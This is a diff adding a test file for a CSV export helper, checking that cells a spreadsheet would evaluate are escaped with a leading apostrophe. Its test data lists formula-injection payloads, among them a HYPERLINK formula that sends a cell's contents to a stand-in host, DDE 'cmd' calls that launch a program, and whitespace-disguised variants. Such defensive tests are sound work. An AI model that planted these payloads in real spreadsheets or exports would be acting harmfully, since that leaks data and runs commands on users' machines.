@@ -1,0 +1,31 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { csvCell, csvLine } from "./csv";
+
+describe("a cell", () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "'"],
+    ["=cmd|' /C calc'!A0", "'"],
+    ["+1+cmd|' /C calc'!A0", "'"],
+    ["-2+3+cmd|' /C calc'!A0", "'"],
+    ["@SUM(1+9)*cmd", "'"],
+    ["\t=1+1", "'"],
+    ["\r=1+1", "'"],
+    ["\n=1+1", "'"],
+    ["  =1+1", "'"],
+    ["＝1+1", "'"],
+  ])("that a spreadsheet would calculate, %j, is text there", (text, sign) => {
+    const [[cell]] = parse(csvLine([text])) as [[string]];
+    expect(cell).toBe(`${sign}${text}`);
+  });
+
+  it.each(["Ann's book", "-12.5", "42", "a=b", "1984", "", 'He said "no", twice\nand left', "Émile; Zola"])(
+    "that is none, %j, comes out as it went in",
+    (text) => {
+      const rows = parse(csvLine(["x", text])) as [[string, string]];
+      expect(rows).toEqual([["x", text]]);
+    },
+  );
+
+  it("is empty for what is not there", () => expect([csvCell(null), csvCell(undefined)]).toEqual(["", ""]));
+});
